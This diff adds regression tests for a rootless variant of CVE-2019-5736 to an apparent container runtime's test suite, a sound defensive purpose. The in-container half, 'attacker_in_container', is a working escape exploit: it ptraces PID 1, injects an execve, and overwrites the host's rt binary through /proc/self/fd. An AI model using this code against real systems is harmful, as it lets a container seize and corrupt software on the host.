@@ -498,3 +498,161 @@ fn merge(v: &mut Value, patch: &Value) {
         (slot, p) => *slot = p.clone(),
     }
 }
+
+/// The variable that turns `attacker_in_container` (this test binary, copied into a container)
+/// into the attack of `cve_2019_5736_through_a_rootless_containers_entrypoint`.
+const ATTACK_VAR: &str = "RT_ROOTLESS_EXE_ATTACK";
+
+/// Found in review (CVE-2019-5736, rootless): `create` and `run` re-execute from a read-only or
+/// sealed image only as root (cli::Cli::enters_container), on the ground that a non-dumpable
+/// init is out of a user namespace's reach. But the image chooses the process: with
+/// `/proc/self/exe` as its entrypoint, the init execs the runtime's binary again, now dumpable
+/// and the container's root's own: PID 1 is the user's rt binary (here stalled opening a fifo
+/// of the image for `--log`). A process the user `rt exec`s (a health check, say) opens
+/// /proc/1/exe, makes PID 1 exec something else (ptrace: same user, same namespace) and writes
+/// the binary once nothing runs it. When the user owns that binary (a rootless install under
+/// $HOME, a build tree), the next rt the user runs is the container's code. Asserted: the
+/// bytes of the user's copy of rt are unchanged.
+#[test]
+fn cve_2019_5736_through_a_rootless_containers_entrypoint() {
+    let mut user = User::new();
+    // The user's own copy (User::new may hard-link the build's binary: never corrupt that one).
+    let bin = user.dir.join("rt");
+    fs::remove_file(&bin).unwrap();
+    fs::copy(rt_bin(), &bin).unwrap();
+    user.chown(&bin);
+    fs::set_permissions(&bin, fs::Permissions::from_mode(0o755)).unwrap();
+    let original = fs::read(&bin).unwrap();
+    let root = user.bundle().join("rootfs");
+    fs::copy(std::env::current_exe().unwrap(), root.join("attacker")).unwrap();
+    fs::set_permissions(root.join("attacker"), fs::Permissions::from_mode(0o755)).unwrap();
+    nix::unistd::mkfifo(
+        &root.join("fifo"),
+        nix::sys::stat::Mode::from_bits_truncate(0o600),
+    )
+    .unwrap();
+    user.chown(&root.join("fifo"));
+    let id = user.id("exe");
+    let mut c = user.spec(&["/proc/self/exe", "--log", "/fifo", "features"]);
+    c["root"]["readonly"] = json!(false);
+    user.write(&c);
+    user.rt(&["create", &id]).ok();
+    user.rt(&["start", &id]).ok();
+    let pid = user.state(&id)["pid"].as_i64().unwrap() as i32;
+    // PID 1 runs the user's binary (blocked opening /fifo).
+    let deadline = std::time::Instant::now() + std::time::Duration::from_secs(5);
+    while fs::read_link(format!("/proc/{pid}/exe")).ok().as_deref() != Some(bin.as_path()) {
+        assert!(
+            std::time::Instant::now() < deadline,
+            "PID 1 never ran {}",
+            bin.display()
+        );
+        std::thread::sleep(std::time::Duration::from_millis(10));
+    }
+    let seen = user.rt(&[
+        "exec",
+        "-e",
+        &format!("{ATTACK_VAR}=1"),
+        &id,
+        "/attacker",
+        "--exact",
+        "attacker_in_container",
+        "--ignored",
+        "--nocapture",
+        "--test-threads=1",
+    ]);
+    let now = fs::read(&bin).unwrap();
+    // Put the binary back for the cleanup's `rt delete` (nothing runs it any more if it changed).
+    if now != original {
+        let _ = fs::write(&bin, &original);
+    }
+    assert!(
+        now == original,
+        "the container wrote the user's rt binary {} (it starts with {:?})\nit saw: {}{}",
+        bin.display(),
+        String::from_utf8_lossy(&now[..24]),
+        seen.stdout,
+        seen.stderr
+    );
+}
+
+/// The in-container half of `cve_2019_5736_through_a_rootless_containers_entrypoint` (does
+/// nothing unless ATTACK_VAR is set): hold PID 1's exe, make PID 1 exec /bin/sleep through
+/// ptrace, then write through the held descriptor as soon as the kernel allows it.
+#[test]
+#[ignore = "run inside a container by cve_2019_5736_through_a_rootless_containers_entrypoint"]
+#[cfg(target_arch = "x86_64")]
+fn attacker_in_container() {
+    use std::os::fd::AsRawFd;
+    use std::os::unix::fs::FileExt;
+    if std::env::var_os(ATTACK_VAR).is_none() {
+        return;
+    }
+    let held = fs::File::open("/proc/1/exe").expect("open /proc/1/exe");
+    println!("holding PID 1's exe: {:?}", fs::read_link("/proc/1/exe"));
+    let null = std::ptr::null_mut::<libc::c_void>();
+    // Safety: ptrace requests on PID 1 with valid buffers; this process is single-threaded here
+    // (--test-threads=1) and is the tracer throughout.
+    unsafe {
+        if libc::ptrace(libc::PTRACE_ATTACH, 1 as libc::pid_t, null, null) != 0 {
+            println!("ptrace attach: {}", std::io::Error::last_os_error());
+            return;
+        }
+        let mut st = 0;
+        libc::waitpid(1, &mut st, libc::__WALL);
+        let mut r: libc::user_regs_struct = std::mem::zeroed();
+        libc::ptrace(
+            libc::PTRACE_GETREGS,
+            1 as libc::pid_t,
+            null,
+            &mut r as *mut _ as *mut libc::c_void,
+        );
+        // "/bin/sleep", "1000" and argv on PID 1's stack, well below what it uses.
+        let sp = (r.rsp - 4096) & !15;
+        let mut buf = [0u8; 56];
+        buf[..10].copy_from_slice(b"/bin/sleep");
+        buf[16..20].copy_from_slice(b"1000");
+        buf[32..40].copy_from_slice(&sp.to_ne_bytes());
+        buf[40..48].copy_from_slice(&(sp + 16).to_ne_bytes());
+        for (i, w) in buf.chunks(8).enumerate() {
+            let word = u64::from_ne_bytes(w.try_into().unwrap());
+            libc::ptrace(
+                libc::PTRACE_POKEDATA,
+                1 as libc::pid_t,
+                (sp + 8 * i as u64) as *mut libc::c_void,
+                word as *mut libc::c_void,
+            );
+        }
+        // Back onto the interrupted `syscall` instruction, as execve.
+        r.rax = libc::SYS_execve as u64;
+        r.orig_rax = u64::MAX;
+        r.rdi = sp;
+        r.rsi = sp + 32;
+        r.rdx = 0;
+        r.rip -= 2;
+        r.rsp = sp - 256;
+        libc::ptrace(
+            libc::PTRACE_SETREGS,
+            1 as libc::pid_t,
+            null,
+            &mut r as *mut _ as *mut libc::c_void,
+        );
+        libc::ptrace(libc::PTRACE_DETACH, 1 as libc::pid_t, null, null);
+    }
+    let path = format!("/proc/self/fd/{}", held.as_raw_fd());
+    for _ in 0..1_000_000 {
+        match fs::OpenOptions::new().write(true).open(&path) {
+            Ok(f) => {
+                let r = f.write_at(b"PWNED-BY-CONTAINER", 0);
+                println!("write through PID 1's exe: {r:?}");
+                return;
+            }
+            Err(e) if e.raw_os_error() == Some(libc::ETXTBSY) => continue,
+            Err(e) => {
+                println!("open PID 1's exe for writing: {e}");
+                return;
+            }
+        }
+    }
+    println!("the binary stayed busy");
+}
